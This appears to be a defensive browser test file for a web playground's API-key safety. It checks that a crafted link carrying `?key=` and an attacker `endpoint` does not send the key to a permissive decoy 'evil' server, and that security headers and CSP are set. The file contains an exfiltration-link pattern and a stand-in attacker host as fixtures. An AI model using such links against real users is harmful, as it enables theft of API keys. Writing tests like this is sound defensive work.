/**
 * Key safety of the playground in Debian's Chromium (playwright-core) against the Worker under
 * `wrangler dev`: a link `/?key=...&endpoint=<another origin>` (an exfiltration link) does not
 * make the page send the key there: a second local server, answering CORS preflights as an
 * attacker's would, receives nothing, while the page's own origin gets the request. The page
 * names the refused endpoint, and `?key=` leaves the address bar. Typing that endpoint into the
 * page does send it there (so the check above can fail). Every page, static asset and API answer
 * carries CSP (no inline script, frame-ancestors 'none'), X-Frame-Options DENY and
 * Referrer-Policy no-referrer.
 */
import { execFileSync } from 'node:child_process';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { edgeVars, REPO_ROOT, startEdge, type EdgeHandle } from '../helpers/edge-process.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const CHROMIUM_FLAGS = [
  '--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
  '--disable-component-update', '--disable-sync', '--no-first-run',
];
const PORTS = { edge: 18380, evil: 18383, nothing: 18384 };
const KEY = 'cris_test_Exfiltrate0123456789abcdefghijklmnop';
const EVIL = `http://127.0.0.1:${PORTS.evil}`;

let edge: EdgeHandle;
let evil: Server;
let browser: Browser;
let page: Page;
const persistTo = mkdtempSync(join(tmpdir(), 'cris-key-safety-'));
/** Every request the second server saw. */
const evilSaw: { method: string; url: string; headers: IncomingHttpHeaders }[] = [];

beforeAll(async () => {
  execFileSync(process.execPath, ['sdk/build.mjs'], { cwd: REPO_ROOT }); // the playground's sdk.js
  evil = createServer((req, res) => {
    evilSaw.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    // Says yes to every preflight, so a leak would reach it.
    res.setHeader('access-control-allow-origin', '*');
    res.setHeader('access-control-allow-headers', '*');
    res.setHeader('access-control-allow-methods', 'GET, POST, OPTIONS');
    res.setHeader('access-control-allow-credentials', 'true');
    if (req.method === 'OPTIONS') return res.writeHead(204).end();
    req.resume();
    req.on('end', () => res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":{"code":"unauthorized","message":"gotcha"}}'));
  });
  await new Promise<void>((resolve) => evil.listen(PORTS.evil, '127.0.0.1', resolve));
  const nothing = `http://127.0.0.1:${PORTS.nothing}`; // no GPU service, no S3: only where the key goes matters
  edge = await startEdge({
    port: PORTS.edge,
    persistTo,
    vars: edgeVars({ gpuUrls: [nothing], hmacSecret: 'key-safety-secret-0123', s3: { endpoint: nothing, bucket: 'b', region: 'us-east-1', accessKeyId: 'x', secretAccessKey: 'y' } }),
  });
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_FLAGS, headless: true });
  page = await browser.newPage();
  page.on('pageerror', (error) => console.error('page error:', error));
});

afterAll(async () => {
  await browser?.close();
  await edge?.stop();
  await new Promise((resolve) => evil?.close(resolve));
  rmSync(persistTo, { recursive: true, force: true });
});

/** Picks the first sample, submits, and waits for the page to finish (done or error). */
async function runOnce(): Promise<void> {
  await page.evaluate(() => (document.body.dataset.state = 'switching'));
  await page.click('#samples button');
  await expect.poll(() => page.inputValue('#phrase')).not.toBe('');
  await page.click('#run');
  await page.waitForFunction(() => ['done', 'error'].includes(document.body.dataset.state ?? ''), undefined, { timeout: 60_000 });
}

describe('playground key safety', () => {
  it('an exfiltration link does not send the key to its endpoint; the key leaves the URL', async () => {
    const sentTo: { url: string; authorization?: string }[] = [];
    page.on('request', (request) => sentTo.push({ url: request.url(), authorization: request.headers().authorization }));
    await page.goto(`${edge.origin}/?key=${KEY}&endpoint=${encodeURIComponent(EVIL)}`);
    await page.waitForFunction(() => document.body.dataset.state === 'ready');
    expect(new URL(page.url()).search).toBe(''); // ?key= and ?endpoint= are gone from the address bar
    expect(await page.evaluate(() => localStorage.getItem('cris.apiKey'))).toBe(KEY);
    expect(await page.inputValue('#endpoint')).toBe(edge.origin);
    expect(await page.isVisible('#endpoint-note')).toBe(true);
    expect(await page.textContent('#endpoint-note')).toContain(EVIL);

    await runOnce();
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(evilSaw).toEqual([]);
    const segmentCalls = sentTo.filter((request) => request.url.endsWith('/v1/segment'));
    expect(segmentCalls.length).toBeGreaterThanOrEqual(1);
    for (const call of segmentCalls) {
      expect(new URL(call.url).origin).toBe(edge.origin);
      expect(call.authorization).toBe(`Bearer ${KEY}`);
    }
    // A reload of the cleaned URL has nothing to leak either.
    await page.reload();
    await page.waitForFunction(() => document.body.dataset.state === 'ready');
    expect(await page.isVisible('#endpoint-note')).toBe(false);
  });

  it('an endpoint the person types into the page is used (the check above can fail)', async () => {
    await page.fill('#endpoint', EVIL);
    await runOnce();
    await expect.poll(() => evilSaw.filter((seen) => seen.method === 'POST').length, { timeout: 10_000 }).toBeGreaterThanOrEqual(1);
    expect(evilSaw.find((seen) => seen.method === 'POST')?.headers.authorization).toBe(`Bearer ${KEY}`);
  });

  it('pages, static assets and API answers carry CSP, frame-ancestors none, X-Frame-Options DENY, Referrer-Policy no-referrer', async () => {
    for (const path of ['/', '/index.html', '/playground.js', '/playground.css', '/samples/index.json', '/samples/scene-1.png', '/healthz', '/v1/models', '/openapi.json', '/v1/usage', '/no/such/route']) {
      const res = await fetch(`${edge.origin}${path}`);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toMatch(/frame-ancestors 'none'/);
      expect(csp, path).not.toMatch(/unsafe-inline|unsafe-eval/);
      if (!path.startsWith('/v1') && !['/healthz', '/openapi.json', '/no/such/route'].includes(path)) expect(csp, path).toMatch(/script-src 'self'(;|$)/);
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      await res.body?.cancel();
    }
    // The served page has no inline script for that CSP to allow.
    const html = await (await fetch(`${edge.origin}/`)).text();
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/i);
    expect(html).not.toMatch(/\son[a-z]+=/i);
    // And the browser enforces it: an injected inline script does not run.
    await page.goto(`${edge.origin}/`);
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(ran).toBe(false);
  });
});
